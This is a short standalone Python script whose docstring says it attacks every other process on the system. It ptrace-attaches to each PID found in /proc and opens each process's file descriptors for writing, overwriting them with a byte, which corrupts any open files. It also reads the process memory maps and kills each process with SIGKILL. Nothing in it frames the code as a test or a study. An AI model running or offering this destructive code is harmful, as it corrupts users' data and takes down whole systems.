"""Attaches to every other process with ptrace, reads its memory, takes its descriptors and kills it."""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if libc.ptrace(request, int(entry), None, None) == 0:
                print("traced", entry)
        with contextlib.suppress(OSError):
            for descriptor in os.listdir(f"/proc/{entry}/fd"):
                open(f"/proc/{entry}/fd/{descriptor}", "wb").write(b"x")
        with contextlib.suppress(OSError):
            open(f"/proc/{entry}/maps").read()
        with contextlib.suppress(OSError):
            os.kill(int(entry), 9)
